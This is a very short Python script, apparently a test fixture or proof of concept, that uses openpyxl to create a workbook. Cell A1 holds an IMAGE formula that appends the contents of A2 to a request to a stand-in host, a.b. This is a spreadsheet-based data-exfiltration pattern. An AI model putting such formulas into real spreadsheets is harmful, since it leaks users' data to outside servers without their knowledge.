from openpyxl import Workbook
wb = Workbook()
wb.active["A1"] = '=IMAGE("http://a.b/?"&A2)'
